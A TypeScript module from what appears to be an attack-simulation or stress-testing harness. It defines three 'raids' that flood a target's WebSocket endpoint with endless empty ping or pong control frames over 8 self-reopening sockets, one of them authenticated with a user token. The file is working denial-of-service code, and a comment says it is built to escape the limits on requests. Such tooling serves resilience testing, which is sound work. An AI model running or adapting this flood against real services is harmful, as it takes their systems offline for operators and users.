import { keepOpen, type Line } from "../attack/lines.ts";
import { socketTalk, tokensOf } from "../attack/sockets.ts";
import type { Tally } from "../attack/tally.ts";
import type { Camp, Raid } from "../camp.ts";

const sockets = 8;
const framesAtOnce = 10_000;

const opcodes = { ping: 0x89, pong: 0x8a } as const;

/** Sends control frames as fast as the kernel takes them, on sockets that are reopened when closed. */
function flood({ url }: Camp, tally: Tally, kind: keyof typeof opcodes, token?: string): void {
  const frame = Buffer.from([opcodes[kind], 0x80, 0, 0, 0, 0]);
  const wave = Buffer.concat(Array.from({ length: framesAtOnce }, () => frame));
  const write = (line: Line) => {
    tally.count("bytes written", wave.length);
    while (line.write(wave)) tally.count("bytes written", wave.length);
  };
  keepOpen({
    url,
    tally,
    count: sockets,
    talk() {
      let isUpgraded = false;
      const talk = socketTalk(url, tally, {
        ...(token !== undefined && { token }),
        onUpgrade(line) {
          isUpgraded = true;
          write(line);
        },
      });
      return { ...talk, onDrain: (line) => isUpgraded && write(line) };
    },
  });
}

/** Floods of frames that are not requests, and so escape the limits on requests. */
export const floodRaids: readonly Raid[] = [
  {
    name: "pongs",
    row: 9,
    mustBeTold: true,
    who: "anyone: endless empty pongs on 8 WebSockets",
    attack: (camp, tally) => flood(camp, tally, "pong"),
  },
  {
    name: "pings",
    row: 9,
    mustBeTold: true,
    who: "anyone: endless empty pings on 8 WebSockets",
    attack: (camp, tally) => flood(camp, tally, "ping"),
  },
  {
    name: "user-pongs",
    row: 9,
    mustBeTold: true,
    who: "one user token: endless empty pongs on 8 WebSockets",
    async attack(camp, tally) {
      const [token] = await tokensOf(["member-0"]);
      flood(camp, tally, "pong", token);
    },
  },
];
